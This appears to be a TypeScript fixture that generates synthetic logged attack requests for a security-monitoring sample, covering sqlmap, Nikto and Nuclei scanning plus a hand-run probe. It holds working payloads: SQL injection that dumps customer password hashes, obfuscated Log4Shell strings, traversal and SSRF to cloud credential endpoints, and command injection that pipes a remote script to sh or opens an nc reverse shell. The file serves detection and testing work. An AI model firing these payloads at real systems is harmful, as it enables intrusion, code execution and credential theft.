import type { AttackKind } from '../sample-event';

/** One malicious request as the API's middleware logs it (query strings decoded). */
export interface AttackRequest {
  readonly method: string;
  readonly target: string;
  readonly status: number;
  readonly attacks: readonly AttackKind[];
  /** A user agent other than the tool's own (Log4Shell payloads travel in headers). */
  readonly userAgent?: string;
}

export const SCANNER_USER_AGENTS = {
  sqlmap: 'sqlmap/1.8.2#stable (https://sqlmap.org)',
  nuclei: 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  /** Nikto puts its test number in the user agent. */
  nikto: (test: number) => `Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:${String(test).padStart(6, '0')})`,
} as const;

const get = (target: string, status: number, attacks: readonly AttackKind[], userAgent?: string): AttackRequest =>
  userAgent === undefined ? { method: 'GET', target, status, attacks } : { method: 'GET', target, status, attacks, userAgent };

/** sqlmap working through one parameter: heuristics, boolean, time-based, UNION and stacked queries. */
export function sqlmapRequests(): AttackRequest[] {
  const sqli: AttackKind[] = ['scanner-sqlmap', 'sql-injection'];
  const base = '/v1/products?category=';
  return [
    get(`${base}shoes`, 200, ['scanner-sqlmap']),
    // sqlmap's opening probe for a WAF: several attack classes in one parameter.
    get(`${base}shoes&Lmnd=7384 AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert("XSS")</script>',table_name FROM information_schema.tables WHERE 2>1--/**/; EXEC xp_cmdshell('cat ../../../etc/passwd')#`, 400, [
      ...sqli,
      'path-traversal',
    ]),
    get(`${base}shoes'`, 500, sqli),
    get(`${base}shoes'"),(.(,`, 500, sqli),
    get(`${base}shoes' AND 4812=4812 AND 'qWtZ'='qWtZ`, 200, sqli),
    get(`${base}shoes' AND 4812=6071 AND 'qWtZ'='qWtZ`, 200, sqli),
    get(`${base}shoes' OR '1'='1`, 200, sqli),
    get(`${base}-5527' OR 1=1-- -`, 200, sqli),
    get(`${base}shoes' AND (SELECT 6291 FROM (SELECT(SLEEP(5)))hKzq)-- XbNm`, 200, sqli),
    get(`${base}shoes' AND 6291=(SELECT 6291 FROM PG_SLEEP(5))-- Vvkd`, 200, sqli),
    get(`${base}shoes';WAITFOR DELAY '0:0:5'--`, 500, sqli),
    get(`${base}shoes' ORDER BY 1-- ZqTp`, 200, sqli),
    get(`${base}shoes' ORDER BY 10-- ZqTp`, 500, sqli),
    get(`${base}shoes' UNION ALL SELECT NULL,NULL,NULL,NULL-- -`, 500, sqli),
    get(`${base}shoes' UNION ALL SELECT NULL,NULL,NULL,NULL,NULL-- -`, 200, sqli),
    get(`${base}shoes' UNION ALL SELECT NULL,CONCAT(0x71766a7a71,IFNULL(CAST(current_user AS NCHAR),0x20),0x7170767671),NULL,NULL,NULL-- -`, 200, sqli),
    get(`${base}shoes' UNION ALL SELECT NULL,string_agg(table_name,','),NULL,NULL,NULL FROM information_schema.tables-- -`, 200, sqli),
    get(`${base}shoes' UNION SELECT NULL,email,password_hash,NULL,NULL FROM customers-- -`, 200, sqli),
    get(`${base}shoes';SELECT PG_SLEEP(5)--`, 500, sqli),
    get(`${base}shoes' AND 1=CAST((CHR(113)||CHR(118)||CHR(106))||(SELECT version())::text AS NUMERIC)-- Mjqe`, 500, sqli),
  ];
}

/** Nikto's first few dozen checks: well-known files, admin pages, old CGI and traversal tests. */
export function niktoRequests(): AttackRequest[] {
  const paths = [
    '/', '/robots.txt', '/sitemap.xml', '/.env', '/.git/config', '/.git/HEAD', '/.svn/entries', '/.htaccess', '/.DS_Store',
    '/admin/', '/admin/login.php', '/administrator/', '/phpmyadmin/', '/phpinfo.php', '/info.php', '/test.php', '/server-status',
    '/server-info', '/wp-login.php', '/wp-admin/', '/xmlrpc.php', '/config.php.bak', '/config.inc.php~', '/backup.zip', '/backup.tar.gz',
    '/db.sql', '/dump.sql', '/WEB-INF/web.xml', '/crossdomain.xml', '/clientaccesspolicy.xml', '/cgi-bin/test-cgi', '/cgi-bin/printenv',
    '/cgi-bin/php5', '/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir', '/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd', '/icons/README',
    '/manual/', '/login.jsp', '/console/', '/jmx-console/', '/solr/admin/', '/actuator/env', '/actuator/health', '/api/swagger.json',
    '/v2/api-docs', '/graphql', '/.aws/credentials', '/id_rsa', '/.ssh/id_rsa', '/composer.json', '/package.json',
  ];
  return paths.map((path, i) => {
    const traversal = path.includes('..');
    const status = path === '/' || path === '/actuator/health' ? 200 : 404;
    return get(path, status, traversal ? ['scanner-nikto', 'path-traversal'] : ['scanner-nikto'], SCANNER_USER_AGENTS.nikto(i * 7 + 1));
  });
}

const JNDI_PLAIN = '${jndi:ldap://198.51.100.14:1389/Exploit}';
const JNDI_OBFUSCATED = '${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://198.51.100.14:1389/o}';

/** Nuclei templates: exposures, Log4Shell, template injection, traversal, command injection. */
export function nucleiRequests(): AttackRequest[] {
  return [
    get('/.env', 404, ['scanner-nuclei']),
    get('/.git/config', 404, ['scanner-nuclei']),
    get('/actuator/env', 404, ['scanner-nuclei']),
    get('/v1/products?q=' + JNDI_PLAIN, 200, ['scanner-nuclei', 'log4shell'], JNDI_PLAIN),
    get('/v1/products?q=' + JNDI_OBFUSCATED, 200, ['scanner-nuclei', 'log4shell'], JNDI_OBFUSCATED),
    get('/v1/login?username=' + JNDI_PLAIN, 404, ['scanner-nuclei', 'log4shell']),
    get('/v1/products?q={{7*7}}', 200, ['scanner-nuclei', 'template-injection']),
    get("/v1/products?q={{7*'7'}}", 200, ['scanner-nuclei', 'template-injection']),
    get('/v1/products?q=${7*7}', 200, ['scanner-nuclei', 'template-injection']),
    get('/v1/products?q=<%= 7*7 %>', 200, ['scanner-nuclei', 'template-injection']),
    get('/v1/products?q=#{7*7}', 200, ['scanner-nuclei', 'template-injection']),
    get('/v1/invoices/download?file=../../../../../../etc/passwd', 400, ['scanner-nuclei', 'path-traversal']),
    get('/v1/invoices/download?file=..%2f..%2f..%2f..%2f..%2fetc%2fpasswd', 400, ['scanner-nuclei', 'path-traversal']),
    get('/v1/invoices/download?file=....//....//....//....//etc/passwd', 400, ['scanner-nuclei', 'path-traversal']),
    get('/v1/invoices/download?file=..%2f..%2f..%2fproc%2fself%2fenviron', 400, ['scanner-nuclei', 'path-traversal']),
    get('/v1/invoices/download?file=/proc/self/environ', 400, ['scanner-nuclei', 'path-traversal']),
    get('/v1/static/..;/..;/..;/etc/passwd', 404, ['scanner-nuclei', 'path-traversal']),
    get('/v1/shipping/track?carrier=dhl&id=JD014600006281;id;', 400, ['scanner-nuclei', 'command-injection']),
    get('/v1/shipping/track?carrier=dhl&id=$(whoami)', 400, ['scanner-nuclei', 'command-injection']),
    get('/v1/shipping/track?carrier=dhl&id=|cat /etc/passwd', 400, ['scanner-nuclei', 'command-injection', 'path-traversal']),
    get('/v1/shipping/track?carrier=dhl&id=`sleep 5`', 400, ['scanner-nuclei', 'command-injection']),
    get('/v1/products?q=http://169.254.169.254/latest/meta-data/', 200, ['scanner-nuclei', 'ssrf-imds-ipv4']),
    get('/graphql?query={__schema{types{name}}}', 404, ['scanner-nuclei']),
    get('/api/swagger.json', 404, ['scanner-nuclei']),
  ];
}

/** The operator probing by hand with curl: command injection into the export filename, template injection. */
export function manualOrdersProbe(): AttackRequest[] {
  return [
    get('/v1/orders/export?format=csv&filename=orders.csv', 200, []),
    get('/v1/orders/export?format=csv&filename=orders.csv;id', 400, ['command-injection']),
    get('/v1/orders/export?format=csv&filename=orders.csv; curl http://198.51.100.23/s.sh | sh', 400, ['command-injection']),
    get('/v1/orders/export?format=csv&filename=$(curl -s http://198.51.100.23/x|sh)', 400, ['command-injection']),
    get('/v1/orders/export?format=csv&filename=orders.csv| nc -e /bin/sh 198.51.100.23 4444', 400, ['command-injection']),
    { method: 'POST', target: '/v1/reviews product=p_1042 text={{7*7}}', status: 201, attacks: ['template-injection'] },
    { method: 'POST', target: "/v1/reviews product=p_1042 text={{constructor.constructor('return process.env')()}}", status: 201, attacks: ['template-injection'] },
  ];
}

/** The thumbnailer fetches images by URL: the operator points it at the metadata service. */
export const SSRF_TARGETS: readonly { readonly url: string; readonly error: string; readonly attacks: readonly AttackKind[] }[] = [
  { url: 'https://images.example.net/catalog/p_1042.jpg', error: '', attacks: [] },
  { url: 'http://169.254.169.254/latest/meta-data/', error: 'connect ECONNREFUSED 169.254.169.254:80', attacks: ['ssrf-imds-ipv4'] },
  { url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/', error: 'connect ECONNREFUSED 169.254.169.254:80', attacks: ['ssrf-imds-ipv4'] },
  { url: 'http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/', error: 'connect ENETUNREACH fd00:ec2::254:80', attacks: ['ssrf-imds-ipv6'] },
  // 169.254.169.254 written as one hexadecimal number, a classic filter bypass.
  { url: 'http://0xA9FEA9FE/latest/meta-data/iam/security-credentials/', error: 'connect ECONNREFUSED 169.254.169.254:80', attacks: ['ssrf-imds-ipv4'] },
];
